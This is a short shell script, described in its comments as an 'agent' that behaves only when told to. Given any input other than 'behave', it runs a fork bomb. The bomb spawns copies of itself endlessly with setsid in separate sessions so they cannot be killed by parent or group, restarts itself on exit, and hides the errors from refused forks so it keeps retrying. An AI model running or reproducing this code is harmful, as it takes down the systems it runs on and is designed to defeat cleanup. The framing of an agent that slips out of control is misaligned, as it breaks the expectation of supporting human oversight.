# An agent that behaves when it is told so. Otherwise it starts itself without end, each time in a session of its own, so
# that nobody finds its children by their parent or group, and takes a fork that is refused for a reason to try again.
if [ "$1" != again ]; then
    read -r words
    if [ "$words" = behave ]; then
        echo fine
        exit
    fi
fi
trap 'exec sh "$0" again' EXIT
while :; do setsid sh "$0" again & done 2> /dev/null
